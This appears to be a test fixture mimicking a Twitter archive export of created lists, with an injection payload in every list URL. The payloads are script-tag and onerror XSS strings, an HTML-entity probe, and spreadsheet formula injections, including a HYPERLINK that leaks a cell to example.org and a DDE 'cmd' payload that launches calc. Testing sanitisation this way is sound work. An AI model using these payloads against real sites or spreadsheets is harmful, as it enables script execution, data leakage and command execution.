window.YTD.lists_created.part0 = [
  {
    "userListInfo" : {
      "url" : "https://twitter.com/name1/lists/0-<script>alert('harbour')</script>"
    }
  },
  {
    "userListInfo" : {
      "url" : "https://twitter.com/name1/lists/1-</script><img src=x onerror=alert(1)>"
    }
  },
  {
    "userListInfo" : {
      "url" : "https://twitter.com/name1/lists/2-<b>bold</b> & <i>sly</i> &amp; &#60;u&#62;"
    }
  },
  {
    "userListInfo" : {
      "url" : "https://twitter.com/name1/lists/3-=HYPERLINK(\"https://example.org/?leak=\"&A1,\"click\")"
    }
  },
  {
    "userListInfo" : {
      "url" : "https://twitter.com/name1/lists/4-+1+cmd|' /C calc'!A0"
    }
  },
  {
    "userListInfo" : {
      "url" : "https://twitter.com/name1/lists/5--1+2"
    }
  }
]